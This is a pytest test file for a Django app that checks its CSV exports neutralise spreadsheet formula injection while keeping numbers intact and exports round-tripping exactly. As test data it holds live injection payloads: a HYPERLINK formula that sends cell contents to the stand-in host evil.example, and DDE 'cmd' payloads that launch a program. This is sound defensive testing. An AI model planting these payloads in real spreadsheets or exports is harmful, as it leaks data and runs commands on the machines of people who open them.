"""Spreadsheet formula injection (issue 17, finding 5): every CSV the app writes neutralises text
cells that begin with = + - @ tab or CR (OWASP), numbers stay numbers, and an export imports
back to exactly the same data.
"""
from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from django.core.management import call_command

from annotation import services
from annotation.models import Rating
from common.csv_safe import FORMULA_TRIGGERS, cell_neutralise, cell_restore
from judge.models import JudgeRun
from modeling.tables import table_csv, table_from_values
from reports import report_build, report_render
from tests.factories import jsonl_write

from .conftest import BASELINE, CHALLENGER, QKEYS, study_lines

HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=1+2", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
    "\t=3+4", "\r=5+6", "'=already quoted", "''two quotes", "-", "@", "=",
]
NUMBERS = ["-0.5", "+3", "-1e-05", "0.25", "-12", ".5"]


def _starts_dangerously(cell: str) -> bool:
    """What a spreadsheet would evaluate: a text cell beginning with a trigger that is not a plain number."""
    return bool(cell) and cell[0] in FORMULA_TRIGGERS and cell_neutralise(cell) != cell


@pytest.mark.parametrize("value", HOSTILE + NUMBERS + ["plain", "", "a=b", "x-1", "O'Brien"])
def test_neutralise_is_owasps_rule_and_restore_undoes_it_exactly(value):
    written = cell_neutralise(value)
    assert cell_restore(written) == value
    if value in NUMBERS or value in ("plain", "", "a=b", "x-1", "O'Brien"):
        assert written == value, "numbers and harmless text are written as they are"
    else:
        assert written == "'" + value and written[0] not in FORMULA_TRIGGERS
    assert cell_neutralise(-0.5) == -0.5 and cell_neutralise(3) == 3 and cell_neutralise(None) is None


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_export_votes_neutralises_and_round_trips_into_a_fresh_study(db, tmp_path):
    lines = study_lines(len(HOSTILE) + 2, tag="csv")
    keys = HOSTILE + ["-0.5", "plain-key"]
    for line, key in zip(lines, keys):
        line["key"] = key
    path = jsonl_write(tmp_path / "hostile.jsonl", lines)
    study, _ = services.study_import_jsonl(path=path, slug="hostile", baseline=BASELINE, challenger=CHALLENGER, overlap=3)
    raters = ["=cmd|' /C calc'!A0", "+rater", "-rater", "@rater", "\tTabbed", "\rReturned", "'quoted", "-0.5"]
    choices = list(Rating.Choice.values)
    for i, item in enumerate(study.items.order_by("key")):
        for j, rater in enumerate(raters):
            for k, q in enumerate(QKEYS):
                Rating.objects.create(item=item, question=q, rater=rater, rater_kind=Rating.RaterKind.LLM,
                                      choice=choices[(i + j + k) % 3], confidence=1 + (i + j + k) % 5)
    out = tmp_path / "votes.csv"
    call_command("export_votes", "hostile", "--output", str(out), stdout=io.StringIO())
    text = out.read_text(encoding="utf-8")
    rows = _rows(text)
    assert len(rows) == 1 + len(keys) * len(raters) * len(QKEYS)
    bad = [cell for row in rows for cell in row if _starts_dangerously(cell)]
    assert not bad, f"cells a spreadsheet would evaluate: {bad[:5]}"
    assert any(cell.startswith("'=HYPERLINK") for row in rows for cell in row)
    assert all(row[0] != "'-0.5" for row in rows), "a number-like key stays as it is"

    fresh, _ = services.study_import_jsonl(path=path, slug="fresh", baseline=BASELINE, challenger=CHALLENGER, overlap=3)
    counts = services.votes_import(study=fresh, path=out)
    assert counts == {"added": len(rows) - 1, "changed": 0, "unchanged": 0}

    def data(s):
        return sorted((r.item.key, r.rater, r.rater_kind, r.question, r.choice, r.confidence)
                      for r in Rating.objects.filter(item__study=s, is_current=True).select_related("item"))

    assert data(fresh) == data(study)
    assert services.votes_import(study=fresh, path=out)["unchanged"] == len(rows) - 1


def test_the_report_csv_neutralises_rater_and_judge_names_and_keeps_numbers(db, tmp_path):
    lines = study_lines(4, tag="rep")
    study, _ = services.study_import_jsonl(path=jsonl_write(tmp_path / "r.jsonl", lines), slug="rep",
                                           baseline=BASELINE, challenger=CHALLENGER, overlap=3)
    judge = "=HYPERLINK(\"http://evil.example\",\"LLM\")"
    for i, item in enumerate(study.items.order_by("key")):
        for rater, kind in (("@ann", "human"), ("+bob", "human"), ("-cat", "human"), (judge, "llm")):
            for q in QKEYS:
                Rating.objects.create(item=item, question=q, rater=rater, rater_kind=kind,
                                      choice=("baseline", "challenger", "similar")[(i + len(rater)) % 3], confidence=5)
    JudgeRun.objects.create(name=judge, study=study, model_id="m", prompt_version="v1")
    text = report_render(report=report_build(study=study), fmt="csv")
    text = text if isinstance(text, str) else text.decode()
    rows = _rows(text)
    bad = [cell for row in rows for cell in row if _starts_dangerously(cell)]
    assert not bad, bad[:5]
    raters = {row[2] for row in rows[1:]}
    assert {"'@ann", "'+bob", "'-cat", "'" + judge} <= raters
    values = [row[4] for row in rows[1:] if row[0] == "question" and row[3] == "fleiss_kappa"]
    assert values and all(v == "" or float(v) == float(v) for v in values)  # numbers, not quoted text
    assert not any(row[4].startswith("'") and row[4][1:2] in "-+" and row[4][1:].replace(".", "").lstrip("+-").isdigit()
                   for row in rows[1:]), "a negative number was quoted"


def test_the_results_csv_neutralises_system_names_and_keeps_negative_numbers(db):
    table = table_from_values({
        "=cmd|' /C calc'!A0": {"char_f1": 0.166, "bpc": 0.923},
        "@PreGRAG": {"char_f1": 0.182, "bpc": 0.950},
    }, baseline="=cmd|' /C calc'!A0", challengers=["@PreGRAG"], task="pfg")
    rows = _rows(table_csv(table))
    bad = [cell for row in rows for cell in row if _starts_dangerously(cell)]
    assert not bad, bad
    assert rows[1][2] == "'=cmd|' /C calc'!A0" and rows[2][2] == "'@PreGRAG"
    imprv = [row for row in rows if row[3] == "imprv"][0]
    assert any(cell.startswith("-") and float(cell) < 0 for cell in imprv[4:-1] if cell), imprv  # bpc got worse: -2.92


def test_every_csv_the_app_writes_goes_through_the_safe_writer():
    """No module writes CSV with the bare csv module: one helper holds the rule (grep-level guard)."""
    root = Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.glob("*/**/*.py"):
        rel = path.relative_to(root).as_posix()
        if rel.startswith((".venv/", "tests/", "common/csv_safe.py", "var/")):
            continue
        text = path.read_text(encoding="utf-8", errors="replace")
        if "csv.writer(" in text or "csv.DictWriter(" in text:
            offenders.append(rel)
    assert not offenders, f"CSV written without common.csv_safe: {offenders}"
